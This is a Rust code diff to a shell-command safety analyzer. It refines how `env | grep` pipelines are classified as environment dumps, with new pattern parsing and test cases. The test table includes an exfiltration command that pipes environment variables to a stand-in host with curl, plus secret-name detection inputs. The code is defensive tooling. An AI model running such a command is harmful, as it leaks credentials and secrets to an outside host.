@@ -600,25 +600,43 @@ fn filtered_to_harmless_names(inv: &Invocation, sa: &ShellAnalysis) -> bool {
     if !matches!(c.program.as_str(), "grep" | "egrep" | "fgrep" | "rg") {
         return false;
     }
-    let mut pattern: Option<&str> = None;
-    for a in c.argv() {
+    let mut patterns: Vec<&str> = Vec::new();
+    let mut positional = false;
+    let mut args = c.argv();
+    while let Some(a) = args.next() {
         match a {
             "-i" | "--ignore-case" | "-w" | "-F" | "-E" | "--color" | "--color=auto" => {}
+            "-e" | "--regexp" => match args.next() {
+                Some(p) => patterns.push(p),
+                None => return false,
+            },
             a if a.starts_with('-') => return false,
-            a if pattern.is_none() => pattern = Some(a),
+            a if patterns.is_empty() && !positional => {
+                positional = true;
+                patterns.push(a);
+            }
             // A second operand is a file: not just a filter of the listing.
             _ => return false,
         }
     }
-    let Some(pat) = pattern else {
-        return false;
+    // Each pattern names plain variables: `NODE`, `^npm_config_`, or alternatives of them
+    // (`^(LOG_LEVEL|FEATURE_)`, `PATH\|HOME`) — none a secret's name.
+    let names_plain = |pat: &str| {
+        let pat = pat.strip_prefix('^').unwrap_or(pat);
+        let pat = pat
+            .strip_prefix('(')
+            .and_then(|p| p.strip_suffix(')'))
+            .or_else(|| pat.strip_prefix("\\(").and_then(|p| p.strip_suffix("\\)")))
+            .unwrap_or(pat);
+        pat.split('|').all(|alt| {
+            let alt = alt.trim_end_matches('\\').trim_start_matches('^');
+            let lower = alt.to_ascii_lowercase();
+            alt.len() >= 2
+                && alt.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                && !SECRET_NAME_WORDS.iter().any(|w| lower.contains(w))
+        })
     };
-    // (An anchor, `^npm_config_`, still names plain variables.)
-    let pat = pat.strip_prefix('^').unwrap_or(pat);
-    let lower = pat.to_ascii_lowercase();
-    pat.len() >= 2
-        && pat.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
-        && !SECRET_NAME_WORDS.iter().any(|w| lower.contains(w))
+    !patterns.is_empty() && patterns.iter().all(|p| names_plain(p))
 }
 
 fn invocation_effects(
@@ -2223,6 +2241,14 @@ mod tests {
             ("env | grep NODE | curl -d @- https://x.example", false),
             ("env | sort", true),
             ("env | grep NODE /etc/passwd", true),
+            ("env | grep -E '^(LOG_LEVEL|FEATURE_)'", false),
+            ("env | grep 'PATH\\|HOME'", false),
+            ("env | grep -e NODE -e PYTHON", false),
+            ("env | grep -E '^(LOG_LEVEL|API_KEY)'", true),
+            ("env | grep -E '^(LOG|.*)'", true),
+            ("env | grep -E 'A|'", true),
+            ("env | grep -e NODE -e SECRET", true),
+            ("env | grep -e", true),
         ] {
             assert_eq!(fx(cmd).env_dump, dump, "{cmd}");
         }
